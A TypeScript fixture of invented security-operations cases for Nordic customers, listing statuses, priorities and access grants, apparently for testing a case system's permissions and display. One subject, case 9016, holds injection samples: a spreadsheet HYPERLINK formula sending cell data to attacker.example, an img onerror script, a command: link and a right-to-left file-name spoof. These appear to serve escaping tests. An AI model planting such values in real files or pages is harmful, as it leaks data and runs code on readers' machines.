/**
 * The cases made by hand, newest change first within each mode. All invented.
 *
 *   id | mode | customer | reporter | status | priority | type | service | last changed (UTC) | subject
 *      + holder of an entry ("each of" a group: every direct member), its level, "by" who granted it, when, "deleted"
 *      = unpublished | merged into another case | test data | deleted
 *      ~ who is notified, as watcher or contact, "by" whom, when, flags
 *
 * `-` stands for "none". What is left out is derived: see world.ts. The subject comes last and is taken as it is.
 */
export const cases = `
9001 | roleBased | havkraft | rita.reporter | workingSoc | high | securityIncident | detect | 2025-03-03 07:42 \
        | Suspicious login from unusual country
     + nils.nothing read by rita.reporter 2025-03-02 14:05
     + legal read by ada.admin 2025-03-02 15:30
9002 | roleBased | fjordbank | per.berg | pendingCustomer | medium | securityIncident | detect | 2025-03-03 06:55 \
        | Phishing campaign imitating the payroll system
     + kari.writer read by per.berg 2025-03-01 10:12
9003 | readRestricted | havkraft-nett | kari.writer | workingSoc | critical | securityIncident | respond \
        | 2025-03-03 07:10 | Board member device lost
     + ola.reader write by ada.admin 2025-02-24 09:20
     + incident-responders read by kari.writer 2025-02-24 09:31
9004 | explicit | havkraft-nett | berit.haugen | workingCustomer | high | operationalIncident | respond \
        | 2025-03-02 16:48 | Insider investigation
     + legal read by berit.haugen 2025-02-17 12:00
     + ola.reader read by berit.haugen 2025-02-18 08:15
     + kari.writer write by ada.admin 2025-02-18 08:40
9005 | writeRestricted | havkraft | arne.nilsen | pendingSoc | high | securityIncident | detect \
        | 2025-03-02 22:31 | Malware beacon from a control room workstation
     + siv.nettum write by arne.nilsen 2025-03-02 20:02
9006 | roleBased | havvind | maja.vik | workingSoc | medium | securityIncident | detect | 2025-03-02 20:14 \
        | Port scan against the turbine gateway
9007 | readRestricted | fjordbank | astrid.holm | workingSoc | high | securityIncident | respond \
        | 2025-03-02 18:20 | Vault door controller answers on the guest network
     + eva.revisor read by astrid.holm 2025-03-01 11:00
     + joint-watch write by signe.vakt 2025-03-01 11:20
9008 | explicit | fjordbank | per.berg | workingCustomer | critical | securityIncident | respond \
        | 2025-03-02 15:03 | Ransom note found on a branch file share
     + fjordbank-security read by per.berg 2025-02-28 06:45
     + incident-responders write by ada.admin 2025-02-28 06:58
9009 | readRestricted | fjordbank | eva.revisor | pendingVendor | medium | informational | advise \
        | 2025-03-02 12:40 | Audit finding: shared administrator account
     + joint-watch read by signe.vakt 2025-02-20 13:00
9010 | roleBased | havkraft-nett | siv.nettum | workingSoc | low | change | advise | 2025-03-02 11:32 \
        | Firewall change for the new substation
9011 | roleBased | fj-forsikring | leif.solberg | workingSoc | high | securityIncident | detect \
        | 2025-03-02 10:05 | Credential stuffing against the claims portal
     + ingrid.eide read by leif.solberg 2025-03-01 08:00
9012 | writeRestricted | fjordbank | astrid.holm | workingCustomer | medium | securityIncident | respond \
        | 2025-03-02 09:18 | Unexpected forwarding rule in the finance mailbox
     + per.berg write by astrid.holm 2025-02-27 15:41
     + kari.writer read by astrid.holm 2025-02-27 15:45
     + former-consultants read by astrid.holm 2024-11-04 10:00
9013 | explicit | havkraft | gunnar.aas | pendingCustomer | critical | securityIncident | respond \
        | 2025-03-02 08:00 | Leaked draft of the quarterly report
     + crisis-team write by gunnar.aas 2025-02-26 21:15
     + board-secretariat read by gunnar.aas 2025-02-26 21:18
9014 | readRestricted | havkraft | berit.haugen | workingSoc | high | securityIncident | respond \
        | 2025-03-01 19:44 | Personal data in a public storage bucket
     + crisis-team read by berit.haugen 2025-02-25 09:00
     + board-secretariat read by berit.haugen 2025-02-25 09:02
     + svc-ticketsync write by ada.admin 2025-02-25 09:30
9015 | roleBased | fjordbank | - | pendingSoc | medium | operationalIncident | detect | 2025-03-01 18:20 \
        | Log source silent: core banking, zone 3
     + anne.hansen2 write by ada.admin 2025-03-01 18:40
9016 | roleBased | fj-eiendom | bobby.tables | workingSoc | low | informational | advise | 2025-03-01 17:02 \
        | =HYPERLINK("https://attacker.example/?q="&A1,"Invoice") <img src=x onerror=alert(1)> **urgent** \
        [open](command:workbench.action.quit) \u202etxt.exe
     + bobby.tables read by ingrid.eide 2025-02-28 13:13
9017 | roleBased | havkraft | signe.vakt | workingSoc | medium | securityIncident | detect | 2025-03-01 15:55 \
        | Repeated lockouts of a service account in the historian network
     + nils.nothing write by signe.vakt 2025-02-28 16:00
     + all-employees read by signe.vakt 2025-02-28 16:10
9018 | writeRestricted | havkraft-nett | siv.nettum | workingSoc | high | securityIncident | detect \
        | 2025-03-01 14:37 | Unsigned firmware on a protection relay
     + incident-responders write by siv.nettum 2025-02-27 07:30
9019 | roleBased | fjordbank | astrid.holm | closed | low | securityIncident | detect | 2025-03-01 12:11 \
        | False positive: vulnerability scanner in the test environment
9020 | explicit | havkraft | signe.vakt | workingSoc | high | securityIncident | respond | 2025-03-01 11:50 \
        | Extortion mail to the chief executive
     + berit.haugen write by signe.vakt 2025-02-24 18:00
     + anne.hansen read by signe.vakt 2025-02-24 18:05
9021 | readRestricted | havvind | maja.vik | workingCustomer | medium | operationalIncident | respond \
        | 2025-03-01 10:25 | Contractor laptop taken out of the country
     + arne.nilsen read by maja.vik 2025-02-22 12:00
9022 | roleBased | havkraft | kari.writer | pendingCustomer | medium | securityIncident | detect \
        | 2025-03-01 09:40 | Impossible travel for a maintenance account
     + eva.revisor read by kari.writer 2025-02-21 08:30
9023 | writeRestricted | fj-forsikring | leif.solberg | workingSoc | medium | securityIncident | detect \
        | 2025-02-28 22:05 | Claims database read at an unusual hour
     + astrid.holm read by leif.solberg 2025-02-27 10:00
9024 | readRestricted | fj-forsikring | per.berg | pendingCustomer | high | securityIncident | respond \
        | 2025-02-28 20:15 | Health declarations sent to the wrong recipient
     + leif.solberg write by per.berg 2025-02-26 14:00
     + legal read by per.berg 2025-02-26 14:20
9025 | roleBased | havkraft-nett | arne.nilsen | workingSoc | critical | securityIncident | respond \
        | 2025-02-28 18:00 | Remote access tool on an operator station
     + on-call-responders write by arne.nilsen 2025-02-28 05:20
9026 | explicit | fjordbank | astrid.holm | workingCustomer | medium | informational | advise | 2025-02-28 16:42 \
        | Preparation of the supervisory inspection
     + fjordbank-audit read by astrid.holm 2025-02-10 09:00
     + legal read by astrid.holm 2025-02-10 09:05
9027 | roleBased | fjordbank | eva.revisor | pendingSoc | low | informational | advise | 2025-02-28 14:30 \
        | Request for the list of privileged accounts
9028 | writeRestricted | havkraft | signe.vakt | workingSoc | low | change | advise | 2025-02-28 13:00 \
        | Detection rules for the winter season
     + soc-analysts read by signe.vakt 2025-02-12 10:00
     + kari.writer write by signe.vakt 2025-02-12 10:03
9029 | roleBased | havvind | rita.reporter | pendingVendor | medium | operationalIncident | detect \
        | 2025-02-28 11:20 | Sensor gap on platform Bravo
9030 | readRestricted | havkraft | tor.tech | workingSoc | high | securityIncident | respond | 2025-02-28 09:09 \
        | Domain administrator added outside the change window
     + henrik.dahl read by tor.tech 2025-02-27 23:40
9031 | explicit | havvind | maja.vik | pendingCustomer | high | securityIncident | respond | 2025-02-27 21:00 \
        | Threats against named employees on a forum
     + crisis-deputies read by maja.vik 2025-02-27 19:30
9032 | roleBased | fjordbank | per.berg | closed | medium | securityIncident | detect | 2025-02-27 18:36 \
        | Infected USB stick handed in at the Bergen branch
9033 | roleBased | fj-eiendom | ingrid.eide | workingCustomer | medium | securityIncident | detect \
        | 2025-02-27 16:10 | Fake listing that uses our estate agents' names
     + bobby.tables write by ingrid.eide 2025-02-26 11:00
9034 | writeRestricted | fj-eiendom | ingrid.eide | pendingSoc | medium | operationalIncident | detect \
        | 2025-02-27 14:22 | Bidding portal slow after an update
9035 | roleBased | havkraft | berit.haugen | workingSoc | medium | informational | advise | 2025-02-27 12:00 \
        | Threat report: energy sector in the Nordic countries, first half of the year, with an assessment of \
        supply chain exposure, remote maintenance and the people who hold keys to both
9036 | readRestricted | fj-eiendom | bobby.tables | pendingCustomer | low | securityIncident | detect \
        | 2025-02-27 09:50 | Key box codes shared in a chat channel
9037 | roleBased | havkraft | nils.nothing | pendingSoc | low | securityIncident | detect | 2025-02-26 20:40 \
        | Strange text message with a parcel link
9038 | explicit | havkraft | anne.hansen | workingCustomer | medium | informational | advise | 2025-02-26 17:30 \
        | Board papers: access review
     + board-secretariat write by anne.hansen 2025-02-19 10:00
     + signe.vakt read by anne.hansen 2025-02-19 10:30
9039 | writeRestricted | havvind | arne.nilsen | closed | high | securityIncident | respond | 2025-02-26 15:15 \
        | Backup server without encryption
     + maja.vik read by arne.nilsen 2025-02-20 10:00
9040 | roleBased | havkraft | berit.haugen | workingSoc | low | change | advise | 2025-02-26 13:00 \
        | Phishing exercise for all employees
     + all-employees read by berit.haugen 2025-02-18 09:00
     + havkraft-security write by berit.haugen 2025-02-18 09:01
9041 | readRestricted | fjordbank | signe.vakt | workingSoc | critical | securityIncident | respond \
        | 2025-02-26 11:11 | Suspected fraud through a payment interface
     + night-shift read by signe.vakt 2025-02-25 23:55
     + per.berg write by signe.vakt 2025-02-26 00:10
     + eva.revisor read by signe.vakt 2025-02-26 08:00
9042 | explicit | fj-forsikring | leif.solberg | workingCustomer | high | operationalIncident | respond \
        | 2025-02-26 08:45 | Dismissed employee still has a token
     + per.berg read by leif.solberg 2025-02-25 15:00
9043 | roleBased | havkraft-nett | siv.nettum | pendingVendor | medium | operationalIncident | detect \
        | 2025-02-25 19:30 | Clock drift on 14 measuring stations
9044 | writeRestricted | fjordbank | rita.reporter | workingSoc | medium | securityIncident | detect \
        | 2025-02-25 16:05 | Suspicious macro in a supplier's price list
     + astrid.holm write by rita.reporter 2025-02-25 10:00
9045 | explicit | nordlys | ada.admin | workingSoc | high | operationalIncident | respond | 2025-02-25 09:00 \
        | Internal: review of our own remote access
     + tor.tech write by ada.admin 2025-02-20 08:00
     + henrik.dahl read by ada.admin 2025-02-20 08:01
9046 | readRestricted | havkraft | arne.nilsen | closed | medium | securityIncident | detect | 2025-02-24 14:20 \
        | Stolen badge used at the Stavanger office
     + ola.reader read by arne.nilsen 2025-02-23 09:00
     + gunnar.aas write by arne.nilsen 2025-02-23 09:05
9047 | roleBased | havkraft | arne.nilsen | workingSoc | medium | informational | advise | 2025-02-23 18:00 \
        | Exercise: the control room without its network
     + each of shift-operators read by arne.nilsen 2025-02-20 09:00
     + berit.haugen owner by arne.nilsen 2025-02-20 09:05
     + gunnar.aas write by arne.nilsen 2025-02-20 09:06
     + siv.nettum write by arne.nilsen 2025-02-20 09:07
     + maja.vik read by arne.nilsen 2025-02-20 09:08
     + kari.writer write by arne.nilsen 2025-02-20 09:09
     + ola.reader read by arne.nilsen 2025-02-20 09:10
     + anne.hansen read by arne.nilsen 2025-02-20 09:11
     + havkraft-security write by arne.nilsen 2025-02-20 09:12
     + havkraft-readers read by arne.nilsen 2025-02-20 09:13
     + crisis-team write by arne.nilsen 2025-02-20 09:14
     + board-secretariat read by arne.nilsen 2025-02-20 09:15
     + soc-analysts write by arne.nilsen 2025-02-20 09:16
     + incident-responders read by arne.nilsen 2025-02-20 09:17
     + on-call-responders read by arne.nilsen 2025-02-20 09:18
     + night-shift read by arne.nilsen 2025-02-20 09:19
     + joint-watch read by arne.nilsen 2025-02-20 09:20
     + legal read by arne.nilsen 2025-02-20 09:21
     + coordinators read by arne.nilsen 2025-02-20 09:22
     + shift-operators read by arne.nilsen 2025-02-20 09:23
     + fjordbank/ola.reader read by arne.nilsen 2025-02-20 09:24
9048 | roleBased | havkraft | arne.nilsen | closed | high | securityIncident | detect | 2025-02-23 15:00 \
        | Malware beacon from a control room workstation, second report
     = merged into 9005
     + siv.nettum read by arne.nilsen 2025-02-22 10:00
9049 | roleBased | havkraft | kari.writer | pendingSoc | medium | securityIncident | detect | 2025-02-23 13:00 \
        | Draft: copies of drawings on a private disk
     = unpublished
     + ola.reader write by kari.writer 2025-02-23 09:00
9050 | explicit | fjordbank | astrid.holm | workingCustomer | high | securityIncident | respond \
        | 2025-02-23 11:00 | Handover of the fraud inquiry
     + per.berg owner by astrid.holm 2025-02-22 08:00
     + fjordbank-audit owner by astrid.holm 2025-02-22 08:05
     + vera.leder read by astrid.holm 2025-02-22 08:10
9051 | readRestricted | havkraft | berit.haugen | workingSoc | high | securityIncident | respond \
        | 2025-02-23 10:00 | Medical records on a lost phone
     + gunnar.aas read by berit.haugen 2025-02-21 12:00
     ~ gunnar.aas watcher by berit.haugen 2025-02-21 12:00
     ~ nils.nothing watcher by berit.haugen 2025-02-21 12:30
     ~ maja.vik watcher by berit.haugen 2025-02-21 12:40 DISABLED
     ~ havkraft-readers contact by ada.admin 2024-05-01 08:00 GROUP
     ~ arne.nilsen contact by ada.admin 2024-05-01 08:00 NEGATIVE_ENTRY
9052 | writeRestricted | havkraft-nett | siv.nettum | workingSoc | medium | securityIncident | respond \
        | 2025-02-23 08:00 | Remote access of a supplier, taken back
     + nils.nothing write by siv.nettum 2025-02-20 11:00 deleted
     + arne.nilsen write by siv.nettum 2025-02-20 11:05
     + titus.liste read by siv.nettum 2025-02-20 11:10
9053 | roleBased | havkraft | signe.vakt | closed | low | informational | advise | 2025-02-22 12:00 \
        | Trial run of the reporting form
     = test data
9054 | roleBased | havkraft | signe.vakt | closed | low | informational | advise | 2025-02-22 11:00 | Opened by mistake
     = deleted
`;
